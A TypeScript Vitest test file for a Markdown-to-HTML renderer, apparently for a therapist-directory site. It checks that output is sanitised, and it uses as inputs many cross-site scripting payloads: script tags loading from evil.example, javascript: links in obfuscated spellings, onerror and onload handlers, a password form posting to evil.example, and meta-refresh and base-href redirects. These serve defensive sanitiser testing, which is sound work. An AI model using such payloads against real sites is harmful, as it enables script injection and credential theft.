import { describe, expect, it } from 'vitest';
import { markdownToText, renderMarkdown, renderMarkdownWithOutline, splitSection } from './markdown.ts';

/** No way to run script survives: no script elements, handlers, javascript: URLs or frames. */
function expectInert(html: string) {
  expect(html).not.toMatch(/<script/i);
  expect(html).not.toMatch(/<iframe|<frame|<object|<embed|<svg|<math|<style|<form|<img|<input|<link|<meta|<base/i);
  // Inside a tag only: the words "onerror=" as text in a paragraph are harmless.
  expect(html).not.toMatch(/<[^>]*\son[a-z]+\s*=/i);
  expect(html).not.toMatch(/(href|src|action|formaction|xlink:href)\s*=\s*"?\s*(javascript|vbscript|data):/i);
  expect(html).not.toMatch(/<[^>]*\sstyle\s*=/i);
}

describe('renderMarkdown', () => {
  it('renders ordinary Markdown: emphasis, lists, links, tables', () => {
    const html = renderMarkdown('Hello **there**.\n\n- one\n- two\n\n[NICE](https://www.nice.org.uk/guidance/ng226)\n\n| a | b |\n|---|---|\n| 1 | 2 |');
    expect(html).toContain('<strong>there</strong>');
    expect(html).toContain('<li>one</li>');
    expect(html).toContain('<a href="https://www.nice.org.uk/guidance/ng226" rel="nofollow ugc">NICE</a>');
    expect(html).toContain('<td>1</td>');
  });

  it('says above a wide table that it slides sideways (the hint shows on phones only)', () => {
    const html = renderMarkdownWithOutline('| Facial | Traditional | Sports massage |\n|---|---|---|\n| face | body | muscles |').html;
    expect(html).toMatch(/<div class="table-wrap"><p class="table-hint" aria-hidden="true">Slide the table sideways to see every column →<\/p><div class="table-scroll"/);
  });

  it('drops <script> elements, inline or as a block', () => {
    for (const md of ['<script>alert(1)</script>', 'Hi <script>alert(1)</script> there', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>', '<<script>script>alert(1)<</script>/script>']) {
      expectInert(renderMarkdown(md));
    }
  });

  it('makes javascript: links inert, however they are spelt', () => {
    for (const md of [
      '[click](javascript:alert(1))',
      '[click](JAVASCRIPT:alert(1))',
      '[click]( javascript:alert(1) )',
      '[click](&#106;avascript:alert(1))',
      '[click](java&#x09;script:alert(1))',
      '<javascript:alert(1)>',
      '[click][x]\n\n[x]: javascript:alert(1)',
      '[click](vbscript:msgbox(1))',
      '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
      '<a href="javascript:alert(1)">click</a>',
    ]) {
      const html = renderMarkdown(md);
      expectInert(html);
    }
    // The words stay; only the dangerous address goes.
    expect(renderMarkdown('[click](javascript:alert(1))')).toBe('<p><a>click</a></p>');
  });

  it('removes event-handler attributes and the elements that carry them', () => {
    for (const md of [
      '<img src=x onerror=alert(1)>',
      '<p onclick="alert(1)">hi</p>',
      '<a href="https://ok.example" onmouseover="alert(1)">hover</a>',
      '<div style="background:url(javascript:alert(1))">x</div>',
      '<svg onload=alert(1)>',
      '<details open ontoggle=alert(1)>',
      '![x](https://x.example/a.png" onerror="alert(1))',
    ]) {
      expectInert(renderMarkdown(md));
    }
  });

  it('removes iframes, objects, forms and styles', () => {
    for (const md of [
      '<iframe src="https://evil.example"></iframe>',
      '<iframe srcdoc="<script>alert(1)</script>">',
      '<object data="x.swf"></object><embed src="x">',
      '<form action="https://evil.example"><input name=password></form>',
      '<style>body{display:none}</style>',
      '<meta http-equiv="refresh" content="0;url=https://evil.example">',
      '<base href="https://evil.example/">',
    ]) {
      expectInert(renderMarkdown(md));
    }
  });

  it('escapes text that merely looks like HTML', () => {
    expect(renderMarkdown('`<script>alert(1)</script>`')).toBe('<p><code>&#x3C;script>alert(1)&#x3C;/script></code></p>');
    expect(renderMarkdown('1 < 2 and a&b')).toBe('<p>1 &#x3C; 2 and a&#x26;b</p>');
  });

  it('keeps mailto and tel links, drops images', () => {
    const html = renderMarkdown('[mail](mailto:hi@clinic.example) [call](tel:+441225000111) ![photo](https://x.example/a.jpg)');
    expect(html).toContain('href="mailto:hi@clinic.example"');
    expect(html).toContain('href="tel:+441225000111"');
    expect(html).not.toContain('<img');
  });

  it('prefixes ids a writer sets, so they cannot clash with the page’s own', () => {
    expect(renderMarkdown('<h2 id="main">x</h2>')).not.toContain('id="main"');
  });

  it('shifts headings so the text’s top heading sits under the page’s heading', () => {
    expect(renderMarkdown('# About me\n\n## Training', { minHeadingLevel: 3 })).toBe('<h3>About me</h3>\n<h4>Training</h4>');
    expect(renderMarkdown('## Safety', { minHeadingLevel: 2 })).toBe('<h2>Safety</h2>');
    expect(renderMarkdown('# A\n\n###### F', { minHeadingLevel: 3 })).toContain('<h6>F</h6>');
  });

  it('gives h2 headings unique ids and lists them as an outline', () => {
    const { html, outline } = renderMarkdownWithOutline('## What it is\n\ntext\n\n## What it is\n\n## Évidence', { headingIds: true, externalLinkRel: 'noopener' });
    expect(outline).toEqual([
      { id: 'what-it-is', text: 'What it is' },
      { id: 'what-it-is-2', text: 'What it is' },
      { id: 'evidence', text: 'Évidence' },
    ]);
    expect(html).toContain('<h2 id="what-it-is-2">');
  });

  it('survives odd input', () => {
    for (const md of ['', '\u0000', '#'.repeat(10_000), '['.repeat(5000), '> '.repeat(2000) + 'x', '- '.repeat(2000) + 'x', '\uD800', '*'.repeat(3000)]) {
      const html = renderMarkdown(md);
      expect(typeof html).toBe('string');
      expectInert(html);
      expect(typeof markdownToText(md, 100)).toBe('string');
    }
    expect(renderMarkdown('> '.repeat(5000) + '<script>x</script>')).not.toContain('<script');
  });
});

describe('markdownToText', () => {
  it('keeps the words and drops formatting and HTML', () => {
    expect(markdownToText('# Hi\n\nI am **Mei**, see [my page](https://x.example). <b>Yes</b>\n\n<script>\nalert(1)\n</script>')).toBe('Hi I am Mei, see my page. Yes');
  });

  it('shortens at a word with an ellipsis', () => {
    const text = markdownToText('Mei Lin trained in traditional acupuncture in London and has focused on facial acupuncture.', 40);
    expect(text.length).toBeLessThanOrEqual(40);
    expect(text).toBe('Mei Lin trained in traditional…');
  });
});

describe('splitSection', () => {
  it('splits off an "Approach" section, up to the next heading of its level', () => {
    const md = 'I trained in London.\n\n## My approach\n\nGentle and unhurried.\n\n## Training\n\nLicAc 2009.';
    expect(splitSection(md, /^(my\s+)?approach$/i)).toEqual({
      rest: 'I trained in London.\n\n## Training\n\nLicAc 2009.',
      section: 'Gentle and unhurried.',
    });
  });

  it('returns the text unchanged without such a section', () => {
    expect(splitSection('Just a bio.', /^approach$/i)).toEqual({ rest: 'Just a bio.', section: undefined });
  });
});
